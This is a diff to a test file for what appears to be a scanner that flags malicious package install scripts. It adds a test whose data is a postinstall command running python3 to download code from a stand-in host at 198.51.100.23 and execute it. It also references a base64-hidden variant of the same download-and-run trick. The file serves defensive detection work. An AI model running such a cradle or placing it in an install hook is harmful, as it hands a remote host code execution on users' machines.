@@ -586,6 +586,10 @@ def test_python_inline_code_that_execs_a_download_hidden_in_base64_is_a_cradle()
     assert run.severity is Severity.CRITICAL and run.details["hidden"] is True
     found = list(judge_command("${*} -c import base64;exec(base64.b64decode('" + stage.decode() + "'))", "entry", "x.js", 3, "x"))
     assert "install-script/fetch-and-execute" in {f.rule for f in found}
+    # A cradle written out over several lines of the command itself is not hidden in base64.
+    plain = "python3 -c \"import urllib.request as u\nexec(u.urlopen('http://198.51.100.23:1224/c').read())\""
+    shown = next(f for f in findings(artifact({"postinstall": plain})) if f.rule == "install-script/fetch-and-execute")
+    assert shown.details["hidden"] is False
     # Inline code that decodes a constant and prints it downloads nothing.
     quiet = base64.b64encode(b"print('hello from the kernel probe')").decode()
     assert "install-script/fetch-and-execute" not in rules(artifact({"install": f"python3 -c \"import base64;print(base64.b64decode('{quiet}'))\""}))
